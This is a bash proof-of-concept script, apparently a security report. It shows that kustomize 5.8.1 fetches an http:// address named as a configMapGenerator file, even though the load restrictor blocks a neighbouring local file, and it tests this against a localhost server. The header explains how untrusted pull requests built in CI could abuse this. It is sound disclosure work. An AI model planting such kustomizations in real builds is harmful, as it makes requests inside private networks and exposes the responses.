#!/usr/bin/env bash
# kustomize (kubernetes-sigs/kustomize), 5.8.1: a "file" of a generator is fetched when it has an address.
#
# `resources` may name addresses, and everybody knows. One would expect `files` of a configMapGenerator to be files:
# the load restrictor, on by default, refuses even one that stands beside the folder. So a build of
#
#     configMapGenerator: [{name: a, files: [../beside.txt]}]                  "is not in or below"
#     configMapGenerator: [{name: a, files: [x=http://127.0.0.1:PORT/x]}]      GET /x, and its answer is the value
#
# It is so wherever a file is named: patches, openapi, crds, configurations. Who builds what somebody else wrote
# (a pull request in CI) sends requests from inside of their network, and prints what comes back.
#
# Needs Go (1.24 or newer), the module proxy and Python. Ends with 0 while it behaves as written above.
set -euo pipefail

folder=$(mktemp -d)
server=""
trap '[ -z "$server" ] || kill "$server"; chmod -R u+w "$folder"; rm -rf "$folder"' EXIT
export GOPATH="$folder/go" GOBIN="$folder/bin" GOFLAGS=-mod=mod GOWORK=off
go install sigs.k8s.io/kustomize/kustomize/v5@v5.8.1

cat >"$folder/serve.py" <<'PY'
import http.server
import sys


class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = f"answer to {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *words):
        pass


server = http.server.HTTPServer(("127.0.0.1", 0), Answer)
with open(sys.argv[1], "w") as port:
    port.write(str(server.server_port))
server.serve_forever()
PY
python3 "$folder/serve.py" "$folder/port" &
server=$!
until [ -s "$folder/port" ]; do sleep 0.1; done
port=$(cat "$folder/port")

mkdir "$folder/build"
echo beside >"$folder/beside.txt"
echo "configMapGenerator: [{name: a, files: [../beside.txt]}]" >"$folder/build/kustomization.yaml"
refused=$("$folder/bin/kustomize" build "$folder/build" 2>&1 || true)
echo "configMapGenerator: [{name: a, files: ['x=http://127.0.0.1:$port/x']}]" >"$folder/build/kustomization.yaml"
fetched=$("$folder/bin/kustomize" build "$folder/build" 2>&1 || true)

echo "a file beside the folder: $refused"
echo "an address: $fetched"
grep -q "is not in or below" <<<"$refused"
grep -q "x: answer to /x" <<<"$fetched"
